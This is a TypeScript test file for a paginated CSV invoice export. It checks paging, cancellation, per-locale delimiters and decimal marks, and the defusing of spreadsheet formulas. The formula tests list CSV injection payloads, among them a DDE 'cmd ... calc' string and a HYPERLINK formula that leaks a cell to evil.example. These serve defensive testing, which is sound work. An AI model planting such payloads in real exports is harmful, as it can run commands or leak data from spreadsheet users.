import Papa from 'papaparse';
import { type ExportColumn, exportCsv, exportFileName, exportFormatFor, type FetchPage, isAbortError } from './export';

type Invoice = { id: string; number: string; customer: string; due: string; amount: string; currency: string };

function invoice(index: number): Invoice {
  return {
    id: `inv-${index}`,
    number: `INV-${String(index).padStart(6, '0')}`,
    customer: index % 7 === 0 ? 'Bakker, "De Molen" B.V.' : `Klant ${index}`,
    due: '2026-03-31',
    amount: index % 5 === 0 ? `-${index}.50` : `${index}.05`,
    currency: 'EUR',
  };
}

const columns: ExportColumn<Invoice>[] = [
  { header: 'Number', value: (row) => row.number },
  { header: 'Customer', value: (row) => row.customer },
  { header: 'Due date', value: (row) => row.due },
  { header: 'Amount', value: (row) => row.amount },
  { header: 'Currency', value: (row) => row.currency },
];

/** A server of `total` rows answering pages as the list call does; it records what was asked. */
function fakeServer(total: number, { failOnPage }: { failOnPage?: number } = {}) {
  const requests: { page: number; perPage: number }[] = [];
  const fetchPage: FetchPage<Invoice> = async ({ page, perPage, signal }) => {
    requests.push({ page, perPage });
    await Promise.resolve();
    if (signal.aborted) throw new DOMException('aborted', 'AbortError');
    if (page === failOnPage) throw new Error('500 Internal Server Error');
    const start = (page - 1) * perPage;
    const items = Array.from({ length: Math.max(0, Math.min(perPage, total - start)) }, (_, i) => invoice(start + i + 1));
    return { items, total };
  };
  return { fetchPage, requests };
}

/** The file's lines; it must start with the UTF-8 byte-order mark (which `Blob.text()` drops). */
async function parse(blob: Blob): Promise<string[][]> {
  expect([...new Uint8Array(await blob.slice(0, 3).arrayBuffer())]).toEqual([0xef, 0xbb, 0xbf]);
  return Papa.parse<string[]>(await blob.text(), { skipEmptyLines: true }).data;
}

describe('CSV export', () => {
  it('fetches every page and writes every row once, with the header first', async () => {
    const server = fakeServer(1203);
    const progress: number[] = [];
    const { blob, rows } = await exportCsv({ columns, fetchPage: server.fetchPage, perPage: 500, onProgress: (p) => progress.push(p.fetched) });
    expect(rows).toBe(1203);
    expect(server.requests).toEqual([
      { page: 1, perPage: 500 },
      { page: 2, perPage: 500 },
      { page: 3, perPage: 500 },
    ]);
    expect(progress).toEqual([500, 1000, 1203]);
    const lines = await parse(blob);
    expect(lines).toHaveLength(1204);
    expect(lines[0]).toEqual(['Number', 'Customer', 'Due date', 'Amount', 'Currency']);
    expect(lines[1]).toEqual(['INV-000001', 'Klant 1', '2026-03-31', '1.05', 'EUR']);
    expect(lines[1203]![0]).toBe('INV-001203');
    expect(blob.type).toBe('text/csv;charset=utf-8');
  });

  it('quotes commas and quotes; negative amounts stay numbers, formulas are defused', async () => {
    const rows: Invoice[] = [
      { ...invoice(7) },
      { ...invoice(5) },
      { ...invoice(1), customer: '=HYPERLINK("http://evil")' },
      { ...invoice(2), customer: '-cmd' },
      { ...invoice(3), customer: '@SUM(A1)' },
    ];
    const { blob } = await exportCsv({ columns, fetchPage: async () => ({ items: rows, total: rows.length }) });
    const text = await blob.text();
    expect(text).toContain('"Bakker, ""De Molen"" B.V."');
    const lines = await parse(blob);
    expect(lines[2]![3]).toBe('-5.50');
    expect(lines[3]![1]).toBe(`'=HYPERLINK("http://evil")`);
    expect(lines[4]![1]).toBe(`'-cmd`);
    expect(lines[5]![1]).toBe(`'@SUM(A1)`);
    expect(text.split('\r\n').length).toBe(7); // header, five rows, and the final line end
  });

  /** Cells a spreadsheet would run as a formula (OWASP CSV injection), each exported as text. */
  const FORMULA_CORPUS = [
    '=1+1',
    '+1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    "-2+3+cmd|' /C calc'!A0",
    '-0+HYPERLINK("https://evil.example/?leak="&B2,"Details")',
    '-.5+1',
    '-1e3',
    '-',
    '-cmd',
  ];
  /** Plain numbers in either decimal mark: they stay numbers. */
  const PLAIN_NUMBERS = ['-12', '-12.50', '-12,50', '-0.5', '1250.00'];

  describe.each([
    { name: 'comma-separated', delimiter: ',' as const },
    { name: 'semicolon-separated', delimiter: ';' as const },
  ])('$name', ({ delimiter }) => {
    async function exportCustomers(customers: string[]) {
      const rows = customers.map((customer, index) => ({ ...invoice(index + 1), customer }));
      const { blob } = await exportCsv({ columns, delimiter, fetchPage: async () => ({ items: rows, total: rows.length }) });
      const text = await blob.text();
      return { text, cells: Papa.parse<string[]>(text, { delimiter, skipEmptyLines: true }).data.slice(1).map((line) => line[1]) };
    }

    it('defuses every formula, a minus followed by a digit or a dot included', async () => {
      const { cells } = await exportCustomers(FORMULA_CORPUS);
      expect(cells).toEqual(FORMULA_CORPUS.map((cell) => `'${cell}`));
    });

    it('leaves plain numbers as they are', async () => {
      const { cells } = await exportCustomers(PLAIN_NUMBERS);
      expect(cells).toEqual(PLAIN_NUMBERS);
    });

    it('quotes a cell holding either separator, so no spreadsheet splits it into a formula cell', async () => {
      const { text, cells } = await exportCustomers(['Acme;=1+1', 'Acme,=1+1']);
      expect(cells).toEqual(['Acme;=1+1', 'Acme,=1+1']);
      expect(text).toContain('"Acme;=1+1"');
      expect(text).toContain('"Acme,=1+1"');
    });
  });

  it.each([1, 10, 500, 1000])('pages of %i rows make the same file', async (perPage) => {
    const server = fakeServer(37);
    const { blob, rows } = await exportCsv({ columns, fetchPage: server.fetchPage, perPage });
    expect(rows).toBe(37);
    expect(server.requests).toHaveLength(Math.ceil(37 / perPage));
    const lines = await parse(blob);
    expect(lines.map((line) => line[0])).toEqual(['Number', ...Array.from({ length: 37 }, (_, i) => invoice(i + 1).number)]);
  });

  it('an empty list is a file with the header only', async () => {
    const { blob, rows } = await exportCsv({ columns, fetchPage: fakeServer(0).fetchPage });
    expect(rows).toBe(0);
    expect(await parse(blob)).toEqual([['Number', 'Customer', 'Due date', 'Amount', 'Currency']]);
  });

  it('cancel stops before the next page and rejects with an AbortError', async () => {
    const server = fakeServer(5000);
    const controller = new AbortController();
    const outcome = exportCsv({
      columns,
      fetchPage: server.fetchPage,
      perPage: 500,
      signal: controller.signal,
      onProgress: ({ fetched }) => {
        if (fetched === 1000) controller.abort();
      },
    });
    const error = await outcome.catch((e: unknown) => e);
    expect(isAbortError(error)).toBe(true);
    expect(server.requests.map((r) => r.page)).toEqual([1, 2, 3]);
  });

  it('cancel aborts the request in flight', async () => {
    const controller = new AbortController();
    let seen: AbortSignal | undefined;
    const outcome = exportCsv({
      columns,
      signal: controller.signal,
      fetchPage: ({ signal }) => {
        seen = signal;
        return new Promise((_, reject) => signal.addEventListener('abort', () => reject(new DOMException('aborted', 'AbortError'))));
      },
    });
    controller.abort();
    expect(isAbortError(await outcome.catch((e: unknown) => e))).toBe(true);
    expect(seen?.aborted).toBe(true);
  });

  it('an already cancelled export asks nothing', async () => {
    const server = fakeServer(10);
    const controller = new AbortController();
    controller.abort();
    expect(isAbortError(await exportCsv({ columns, fetchPage: server.fetchPage, signal: controller.signal }).catch((e: unknown) => e))).toBe(true);
    expect(server.requests).toEqual([]);
  });

  it('a failing page fails the export with its error', async () => {
    const server = fakeServer(2000, { failOnPage: 2 });
    await expect(exportCsv({ columns, fetchPage: server.fetchPage })).rejects.toThrow('500 Internal Server Error');
  });

  it('stops when the server keeps answering full pages past its total', async () => {
    let pages = 0;
    const { rows } = await exportCsv({
      columns,
      perPage: 2,
      fetchPage: async ({ page }) => {
        pages += 1;
        return { items: [invoice(page * 2 - 1), invoice(page * 2)], total: 4 };
      },
    });
    expect(rows).toBe(4);
    expect(pages).toBe(2);
  });

  it('exports 50,000 rows in 500-row pages', async () => {
    const server = fakeServer(50_000);
    const heapBefore = process.memoryUsage().heapUsed;
    const started = performance.now();
    const { blob, rows } = await exportCsv({ columns, fetchPage: server.fetchPage });
    const elapsed = performance.now() - started;
    const heapAfter = process.memoryUsage().heapUsed;
    expect(rows).toBe(50_000);
    expect(server.requests).toHaveLength(100);
    const text = await blob.text();
    expect(text.split('\r\n')).toHaveLength(50_002);
    console.info(
      `export of 50,000 rows: ${elapsed.toFixed(0)} ms, ${(blob.size / 1024 / 1024).toFixed(1)} MB of CSV, heap +${((heapAfter - heapBefore) / 1024 / 1024).toFixed(1)} MB`,
    );
    // Generous for a shared 2-core machine; measured well under a second there.
    expect(elapsed).toBeLessThan(10_000);
  });

  it('names the file after the list and the day', () => {
    expect(exportFileName('invoices', new Date(2026, 10, 5, 23, 59))).toBe('invoices-2026-11-05.csv');
  });
});

describe('the file follows the user language', () => {
  it.each([
    ['en-US', ',', '.'],
    ['en-GB', ',', '.'],
    ['fr', ';', ','],
    ['it', ';', ','],
    ['de', ';', ','],
    ['nl', ';', ','],
    ['es', ';', ','],
  ] as const)('%s: separated by %s, decimals with %s (as Excel in that language reads it)', (language, delimiter, decimalMark) => {
    expect(exportFormatFor(language)).toEqual({ delimiter, decimalMark });
  });

  it('a Dutch CSV parsed with ";" has its columns, and an amount reads back as the number it was', async () => {
    const typed: ExportColumn<Invoice>[] = [
      { header: 'Factuurnummer', value: (row) => row.number },
      { header: 'Klant', value: (row) => row.customer },
      { header: 'Vervaldatum', value: (row) => row.due, type: 'date' },
      { header: 'Bedrag', value: (row) => row.amount, type: 'decimal' },
      { header: 'Valuta', value: (row) => row.currency },
    ];
    const rows: Invoice[] = [
      { ...invoice(1), customer: 'Bakker, "De Molen" B.V.', amount: '8131.23' },
      { ...invoice(2), amount: '-12.50' },
    ];
    const { blob } = await exportCsv({ columns: typed, ...exportFormatFor('nl'), fetchPage: async () => ({ items: rows, total: rows.length }) });
    const lines = Papa.parse<string[]>(await blob.text(), { delimiter: ';', skipEmptyLines: true }).data;
    expect(lines[0]).toEqual(['Factuurnummer', 'Klant', 'Vervaldatum', 'Bedrag', 'Valuta']);
    expect(lines[1]).toEqual(['INV-000001', 'Bakker, "De Molen" B.V.', '2026-03-31', '8131,23', 'EUR']);
    expect(lines[2]![3]).toBe('-12,50');
    // What a Dutch spreadsheet does with the cell: "," is the decimal mark, "." would group thousands.
    const dutch = (cell: string) => Number(cell.replaceAll('.', '').replace(',', '.'));
    expect(dutch(lines[1]![3]!)).toBe(8131.23);
    expect(dutch(lines[2]![3]!)).toBe(-12.5);
  });

  it('an American CSV keeps the decimal point and the comma', async () => {
    const typed: ExportColumn<Invoice>[] = [{ header: 'Amount', value: (row) => row.amount, type: 'decimal' }];
    const { blob } = await exportCsv({ columns: typed, ...exportFormatFor('en-US'), fetchPage: async () => ({ items: [{ ...invoice(1), amount: '8131.23' }], total: 1 }) });
    expect((await blob.text()).split('\r\n')[1]).toBe('8131.23');
  });

  it('names the file with its format', () => {
    expect(exportFileName('invoices', new Date(2026, 10, 5), 'xlsx')).toBe('invoices-2026-11-05.xlsx');
  });
});
